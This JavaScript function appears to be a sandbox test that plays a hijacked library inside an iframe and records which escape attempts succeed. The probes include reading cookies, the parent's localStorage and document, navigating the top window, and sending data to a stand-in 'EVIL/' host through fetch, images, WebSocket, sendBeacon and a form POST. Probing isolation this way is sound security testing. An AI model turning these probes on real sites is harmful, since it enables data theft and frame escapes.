// What a script that has got the better of a library inside a drawing frame would try; which of it came through.
async () => {
  const loaded = one => new Promise((yes, no) => {
    one.onload = yes;
    one.onerror = () => no(Error('refused'));
    one.begin();
  });
  const opened = (one, on) => new Promise((yes, no) => {
    one[on] = yes;
    one.onerror = () => no(Error('refused'));
  });
  const soon = new Promise((_, no) => setTimeout(() => no(Error('nothing came')), 3000));
  const tries = {
    fetch: () => fetch('EVIL/fetch'),
    hub: () => fetch('/api/desk'),
    request: () => loaded(Object.assign(new XMLHttpRequest(), { begin() { this.open('GET', '/api/desk'); this.send(); } })),
    image: () => loaded(Object.assign(new Image(), { begin() { this.src = 'EVIL/i.png'; } })),
    script: () => loaded(Object.assign(document.createElement('script'), {
      begin() { this.src = '/overlay.js'; document.head.append(this); },
    })),
    eval: () => (0, eval)('1'),
    socket: () => opened(new WebSocket('EVIL/'), 'onopen'),
    worker: () => new Promise((yes, no) => {
      const code = "fetch('/api/desk').then(() => postMessage(1), () => postMessage(0))";
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = ({data}) => data === 1 ? yes() : no(Error('refused'));
    }),
    frame: () => {
      const inner = Object.assign(document.createElement('iframe'), { src: 'EVIL/f' });
      document.body.append(inner);
      return inner.contentDocument.title;
    },
    parent: () => window.parent.document.title,
    desk: () => window.parent.localStorage.length,
    storage: () => localStorage.length,
    cookie: () => document.cookie,
    database: () => opened(indexedDB.open('x'), 'onsuccess'),
    window: () => { if (window.open('EVIL/w') === null) throw Error('refused'); },
    top: () => { window.top.location.href = 'EVIL/top'; },
    dialog: () => { if (window.alert('x') === undefined) throw Error('nothing is shown'); },
    beacon: () => { navigator.sendBeacon('EVIL/b', 'x'); throw Error('who listens tells'); },
  };
  const got = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await Promise.race([attempt(), soon]);
      got.push(name);
    } catch { /* refused */ }
  }
  const form = Object.assign(document.createElement('form'), { action: 'EVIL/form', method: 'post' });
  document.body.append(form);
  form.submit();
  return got;
}